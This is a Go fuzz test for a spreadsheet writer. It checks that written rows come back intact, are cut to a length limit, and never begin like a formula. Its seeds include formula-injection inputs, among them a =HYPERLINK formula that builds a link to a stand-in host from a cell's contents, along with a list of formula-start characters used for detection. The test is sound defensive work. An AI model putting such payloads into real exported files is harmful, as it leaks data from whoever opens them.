package spreadsheet

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"
)

// FuzzWrite holds the promises of the package against texts that nobody thought of: the rows that went in come out,
// each on a line of its own, and no cell of a text begins like a formula.
func FuzzWrite(f *testing.F) {
	f.Add("Room 4-12", "0085123642", int64(12), int64(1_777_831_209))
	f.Add("=HYPERLINK(\"http://x/\"&A1,\"x\")", "=1+1", int64(-1), int64(0))
	f.Add(" \t\r\n@a,\"b\"\x00", "", int64(0), int64(-1))
	f.Add("\ufeff＝1", "\u200b-1", int64(1)<<62, int64(1)<<40)
	f.Add("\xff\xfe\u2028", "085•••642", int64(7), int64(1))
	f.Add(strings.Repeat("😀", cellLimit/2+1), strings.Repeat("0", cellLimit), int64(7), int64(1))
	f.Fuzz(func(t *testing.T, text, code string, n, seconds int64) {
		const times = 3
		at := time.Unix(seconds%(1<<37), 0).UTC()
		var b bytes.Buffer
		w := NewWriter(&b)
		_ = w.Header(text, "code", "n", "at")
		for range times {
			_ = w.Row(Text(text), Code(code), Number(n), Time(at))
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if got := strings.Count(b.String(), "\n"); got != times+1 {
			t.Errorf("%d lines, want %d", got, times+1)
		}
		read := rows(t, b.String())
		if len(read) != times+1 {
			t.Fatalf("%d rows, want %d", len(read), times+1)
		}
		for _, row := range read[1:] {
			same(t, row[0], text, "'", "\t", "")
			same(t, row[1], code, "'", "\t", "")
			if row[2] != Number(n).text || row[3] != Time(at).text {
				t.Errorf("number and time came back as %q", row[2:])
			}
			if code != "" && row[1][0] != '\t' && row[1][0] != '\'' {
				t.Errorf("the code %q is not marked as a text", row[1])
			}
		}
		for _, row := range read {
			harmless(t, row[0])
			harmless(t, row[1])
		}
	})
}

// same fails unless the cell is the text, or its beginning and a mark, behind one of the marks. It says again, in
// other words, what may change: control characters and what is not UTF-8.
func same(t *testing.T, cell, text string, marks ...string) {
	t.Helper()
	var want strings.Builder
	for _, r := range strings.ReplaceAll(text, "\r\n", "\r") {
		switch {
		case strings.ContainsRune("\t\n\v\f\r\u0085\u2028\u2029", r):
			want.WriteByte(' ')
		case unicode.Is(unicode.Cc, r):
			want.WriteRune('\ufffd')
		default:
			want.WriteRune(r)
		}
	}
	for _, mark := range marks {
		whole := mark + want.String()
		units := utf16.Encode([]rune(whole))
		switch cut, isCut := strings.CutSuffix(cell, "…"); {
		case len(units) <= cellLimit && cell == whole:
			return
		case len(units) > cellLimit && isCut && strings.HasPrefix(whole, cut) && len(utf16.Encode([]rune(cell))) >= cellLimit-1:
			return
		}
	}
	t.Errorf("the text %q came back as %q", text, cell)
}

// harmless fails when a program could take a cell for a formula, or when it is longer than a program takes.
func harmless(t *testing.T, cell string) {
	t.Helper()
	for _, r := range cell {
		if strings.ContainsRune("=+-@＝＋－＠", r) {
			t.Errorf("the cell %q begins with a formula", cell)
		}
		if !unicode.IsSpace(r) && !unicode.Is(unicode.Cf, r) {
			break
		}
	}
	if n := len(utf16.Encode([]rune(cell))); n > cellLimit {
		t.Errorf("a cell has %d characters", n)
	}
}
